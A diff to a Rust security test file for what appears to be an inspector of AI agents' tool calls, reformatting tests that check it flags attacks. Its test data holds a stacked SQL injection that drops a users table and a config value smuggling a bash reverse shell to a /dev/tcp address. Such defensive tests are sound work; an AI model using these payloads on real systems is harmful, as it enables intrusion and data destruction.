@@ -3,6 +3,8 @@
 //! send them. Each finding's test asserts the secure outcome (it fails
 //! until the finding is fixed) next to a positive control.
 
+#![allow(clippy::unwrap_used, clippy::needless_pass_by_value, reason = "test helpers")]
+
 use aigos::policy::{Inspector, InspectorConfig, ToolSchema};
 use base64::Engine as _;
 use serde_json::{Value, json};
@@ -44,7 +46,12 @@ fn finding1_typing_an_argument_without_constraints_must_not_disable_detection() 
     // A DROP stacked after a read in a whole query is asked for review (medium).
     let attack = json!({"query": "SELECT name FROM users WHERE id = 1; DROP TABLE users; --"});
     let acted = |schema: Option<&aigos::policy::ToolSchema>| {
-        inspector().inspect_call("db.query", &attack, schema).unwrap().findings.iter().any(|f| f.confidence >= aigos::policy::Confidence::Medium && f.family == aigos::policy::Family::SqlInjection)
+        inspector()
+            .inspect_call("db.query", &attack, schema)
+            .unwrap()
+            .findings
+            .iter()
+            .any(|f| f.confidence >= aigos::policy::Confidence::Medium && f.family == aigos::policy::Family::SqlInjection)
     };
     assert!(acted(None));
     let typed = schema(json!({"query": {"kind": "sql"}}));
@@ -181,7 +188,8 @@ fn finding7_a_payload_finding_keeps_the_decision_record_canonical() {
     rt().block_on(async {
         let w = World::new();
         // Control: no finding, the record is canonical.
-        let o = w.validate(&w.request_as(DEMO_AGENT, "config.update", ActionKind::ToolCall, Severity::Low, json!({"value": "hello"}))).await;
+        let o =
+            w.validate(&w.request_as(DEMO_AGENT, "config.update", ActionKind::ToolCall, Severity::Low, json!({"value": "hello"}))).await;
         let _ = o.audit_view();
         let payload = json!({"value": "x; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"});
         let o = w.validate(&w.request_as(DEMO_AGENT, "config.update", ActionKind::ToolCall, Severity::Low, payload)).await;
